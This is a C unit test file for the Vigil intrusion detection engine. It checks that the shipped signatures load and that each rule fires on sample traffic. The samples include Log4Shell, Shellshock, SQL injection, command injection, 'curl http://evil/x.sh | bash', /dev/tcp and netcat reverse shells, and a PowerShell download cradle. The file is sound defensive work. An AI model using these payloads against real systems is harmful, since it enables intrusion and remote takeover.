/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The shipped starter signatures (conf/signatures): they all load against the shipped
 * classification, their sids are in Vigil's range, and each family fires on a sample of
 * what it is written for and stays quiet on ordinary traffic.
 */
#include "det_test.h"

#define SIG_DIR VIGIL_SOURCE_ROOT "/conf/signatures"

static struct det_vars *vars;
static struct det_set *set;
static struct det_engine *eng;
static struct det_worker *wrk;

static const uint8_t outside[16] = { 203, 0, 113, 5 };
static const uint8_t inside[16] = { 10, 0, 0, 5 };

static int
setup(void **state)
{
	const char *paths[] = { SIG_DIR };
	struct det_load_opts o;
	struct det_load_report rep;
	struct vg_diag d;

	(void)state;
	vars = det_vars_create();
	if (vars == NULL || det_vars_set_defaults(vars) != 0)
		return -1;
	det_load_opts_default(&o);
	o.vars = vars;
	o.classification = SIG_DIR "/classification.config";
	vg_diag_init(&d);
	set = det_load(paths, 1, &o, &rep, &d);
	if (set == NULL || rep.rejected != 0 || rep.loaded < 40 || d.errors != 0) {
		det_load_report_print(&rep, stderr, true);
		vg_diag_print(&d, stderr);
		return -1;
	}
	det_load_report_free(&rep);
	eng = det_compile(set, NULL, NULL, &d);
	wrk = eng != NULL ? det_worker_create(eng, -1) : NULL;
	vg_diag_print(&d, stderr);
	vg_diag_free(&d);
	return wrk == NULL ? -1 : 0;
}

static int
teardown(void **state)
{
	(void)state;
	det_worker_free(wrk);
	det_engine_free(eng);
	det_set_free(set);
	det_vars_free(vars);
	return 0;
}

static void
test_metadata(void **state)
{
	(void)state;
	for (unsigned i = 0; i < det_set_count(set); i++) {
		const struct det_rule *r = det_set_rule(set, i);

		assert_true(r->info.sid >= 9000000 && r->info.sid < 10000000);
		assert_int_equal(strncmp(r->info.msg, "VIGIL ", 6), 0);
		assert_true(r->info.classtype[0] != '\0');
		assert_true(r->info.rev >= 1);
	}
}

/* A packet from outside to inside (or back with reply). */
static struct det_pkt
pkt(uint8_t proto, uint16_t port, const void *data, size_t len, bool reply)
{
	struct det_pkt p = {
		.payload = data,
		.len = (uint32_t)len,
		.family = 4,
		.proto = proto,
		.flags = DET_PKT_TO_SERVER | DET_PKT_ESTABLISHED,
		.sport = 50000,
		.dport = port,
		.src = outside,
		.dst = inside,
		.now_ns = 1,
	};

	return reply ? tdet_reply(p) : p;
}

static bool
in(const uint32_t *sids, int n, uint32_t sid)
{
	for (int i = 0; i < n; i++)
		if (sids[i] == sid)
			return true;
	return false;
}

/* Run data as one stream segment; return the sids. */
static int
stream(const struct det_pkt *p, uint32_t *sids)
{
	size_t size = det_stream_state_size(eng);
	void *st = aligned_alloc(64, (size + 63) & ~(size_t)63);
	struct det_match m[16];
	int n, k = 0;

	assert_non_null(st);
	assert_int_equal(det_stream_open(wrk, st, size, p), 0);
	n = det_stream_scan(wrk, st, p, m, 16);
	assert_true(n >= 0);
	for (int i = 0; i < n; i++)
		sids[k++] = det_engine_rule_info(eng, m[i].rule)->sid;
	n = det_stream_close(wrk, st, p, m, 16);
	for (int i = 0; i < n; i++)
		sids[k++] = det_engine_rule_info(eng, m[i].rule)->sid;
	free(st);
	return k;
}

static void
expect_stream(uint16_t port, bool reply, const char *data, uint32_t sid)
{
	struct det_pkt p = pkt(IPPROTO_TCP, port, data, strlen(data), reply);
	uint32_t sids[32];
	int n = stream(&p, sids);

	if (sid == 0 && n > 0)
		fail_msg("'%s' raised sid %u", data, sids[0]);
	if (sid != 0 && !in(sids, n, sid))
		fail_msg("'%s' did not raise sid %u (%d others)", data, sid, n);
}

/* The answer of a server outside to a client inside. */
static void
expect_download(uint16_t port, const char *data, uint32_t sid)
{
	struct det_pkt p = pkt(IPPROTO_TCP, port, data, strlen(data), false);
	uint32_t sids[32];
	int n;

	p.src = inside;
	p.dst = outside;
	p = tdet_reply(p);
	n = stream(&p, sids);
	if (!in(sids, n, sid))
		fail_msg("'%s' did not raise sid %u (%d others)", data, sid, n);
}

static void
test_exploits_and_shells(void **state)
{
	(void)state;
	expect_stream(8080, false, "GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n", 9000100);
	expect_stream(8080, false, "GET /?x=${${lower:j}ndi:ldap://evil/a} HTTP/1.1\r\n", 9000101);
	expect_stream(80, false, "GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n",
			9000102);
	expect_stream(80, false, "POST /x?class.module.classLoader.URLs%5B0%5D=0 HTTP/1.1\r\n",
			9000103);
	expect_stream(80, false, "GET /cgi-bin/../../../etc/passwd HTTP/1.1\r\n", 9000105);
	expect_stream(80, false, "GET /cgi-bin/../../../etc/passwd HTTP/1.1\r\n", 9000107);
	expect_stream(80, false, "GET /item?id=1+UNION+ALL+SELECT+pass+FROM+users HTTP/1.1\r\n",
			9000108);
	expect_stream(80, false, "GET /login?u=admin' or '1'='1 HTTP/1.1\r\n", 9000109);
	expect_stream(80, false, "GET /ping?h=1;wget http://x/y HTTP/1.1\r\n", 9000112);
	expect_stream(21, false, "USER root\r\n", 9000115);
	expect_download(80,
			"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n"
			"\x7f"
			"ELF\x02\x01\x01",
			9000200);
	expect_download(80, "HTTP/1.0 200 OK\r\n\r\n#!/bin/sh\nwget x\n", 9000202);
	expect_download(80,
			"HTTP/1.1 200 OK\r\n\r\nMZ\x90\x01\x02\x03 This program cannot be run "
			"in DOS mode.",
			9000201);
	expect_stream(4444, false, "curl -s http://evil/x.sh | bash\n", 9000203);
	expect_stream(4444, false, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", 9000204);
	expect_stream(4444, false, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", 9000206);
	expect_stream(4444, false, "nc -e /bin/sh 198.51.100.7 4444\n", 9000205);
	expect_stream(80, false, "GET /?a=IEX(New-Object Net.WebClient).DownloadString('x')\r\n",
			9000207);
	expect_stream(80, false, "GET /up/s.php?cmd=id HTTP/1.1\r\n", 9000211);
	/* ordinary traffic stays quiet */
	expect_stream(80, false,
			"GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: "
			"Mozilla/5.0\r\nAccept: */*\r\n\r\n",
			0);
	expect_stream(80, true,
			"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body>hello"
			"</body></html>",
			0);
}

/* A DNS query for name (dotted) with type qtype, in wire format. */
static size_t
dns_query(uint8_t *buf, const char *name, uint16_t qtype)
{
	size_t n = 12;
	const char *p = name;

	memset(buf, 0, 12);
	buf[0] = 0x12;
	buf[1] = 0x34;
	buf[2] = 0x01;
	buf[5] = 1;
	while (*p) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);

		buf[n++] = (uint8_t)l;
		memcpy(buf + n, p, l);
		n += l;
		p += l + (dot ? 1 : 0);
	}
	buf[n++] = 0;
	buf[n++] = (uint8_t)(qtype >> 8);
	buf[n++] = (uint8_t)qtype;
	buf[n++] = 0;
	buf[n++] = 1;
	return n;
}

static int
dns_out(const char *name, uint16_t qtype, uint32_t *sids)
{
	uint8_t q[512];
	size_t len = dns_query(q, name, qtype);
	struct det_pkt p = pkt(IPPROTO_UDP, 53, q, len, false);
	struct det_match m[16];
	int n;

	/* from a host inside to a resolver outside */
	p.src = inside;
	p.dst = outside;
	n = det_scan_packet(wrk, &p, m, 16);
	for (int i = 0; i < n; i++)
		sids[i] = det_engine_rule_info(eng, m[i].rule)->sid;
	return n;
}

static void
test_dns(void **state)
{
	uint32_t sids[16];
	int n;

	(void)state;
	n = dns_out("aGVsbG8gd29ybGQgdGhpcyBpcyBhIHR1bm5lbGxlZCBwYXlsb2FkIQ.t.example.com", 16,
			sids);
	assert_true(in(sids, n, 9000300));
	n = dns_out("myhost.duckdns.org", 1, sids);
	assert_true(in(sids, n, 9000302));
	n = dns_out("home.hopto.org", 1, sids);
	assert_true(in(sids, n, 9000303));
	n = dns_out("abcdefghijklmnop.onion", 1, sids);
	assert_true(in(sids, n, 9000304));
	n = dns_out("api.ipify.org", 1, sids);
	assert_true(in(sids, n, 9000307));
	n = dns_out("www.example.com", 1, sids);
	assert_int_equal(n, 0);
	/*
	 * Many TXT queries from one host ("both", count 50): the first TXT query was the long
	 * label above, so the 49th here is the 50th: it alerts once; the later ones match
	 * without alerting.
	 */
	{
		uint8_t q[512];
		size_t len = dns_query(q, "x.example.com", 16);
		struct det_pkt p = pkt(IPPROTO_UDP, 53, q, len, false);
		struct det_match m[16];
		int hits = 0, alerted = 0;

		p.src = inside;
		p.dst = outside;
		for (int i = 0; i < 60; i++) {
			n = det_scan_packet(wrk, &p, m, 16);
			for (int k = 0; k < n; k++) {
				if (det_engine_rule_info(eng, m[k].rule)->sid != 9000301)
					continue;
				hits++;
				alerted += (m[k].flags & DET_M_ALERT) != 0;
				if (alerted == 1 && (m[k].flags & DET_M_ALERT))
					assert_int_equal(i, 48);
			}
		}
		assert_int_equal(hits, 12);
		assert_int_equal(alerted, 1);
	}
}

static void
test_scans(void **state)
{
	struct det_pkt p = pkt(IPPROTO_TCP, 22, NULL, 0, false);
	struct det_match m[8];
	int n, alerts = 0;

	(void)state;
	p.flags = DET_PKT_TO_SERVER;
	p.tcp_flags = 0; /* NULL probe */
	n = det_scan_packet(wrk, &p, m, 8);
	assert_int_equal(n, 1);
	assert_int_equal(det_engine_rule_info(eng, m[0].rule)->sid, 9000001);
	p.tcp_flags = 0x29; /* FIN PSH URG */
	n = det_scan_packet(wrk, &p, m, 8);
	assert_int_equal(det_engine_rule_info(eng, m[0].rule)->sid, 9000002);
	/* SSH: the 21st SYN in a minute alerts */
	p.tcp_flags = 0x02;
	for (int i = 0; i < 21; i++) {
		p.now_ns = (uint64_t)i * 1000000;
		n = det_scan_packet(wrk, &p, m, 8);
		for (int k = 0; k < n; k++)
			alerts += det_engine_rule_info(eng, m[k].rule)->sid == 9000006 &&
				  (m[k].flags & DET_M_ALERT);
	}
	assert_int_equal(alerts, 1);
	/* an ordinary SYN-ACK answer raises nothing */
	p = pkt(IPPROTO_TCP, 22, NULL, 0, true);
	p.tcp_flags = 0x12;
	assert_int_equal(det_scan_packet(wrk, &p, m, 8), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_metadata),
		cmocka_unit_test(test_exploits_and_shells),
		cmocka_unit_test(test_dns),
		cmocka_unit_test(test_scans),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
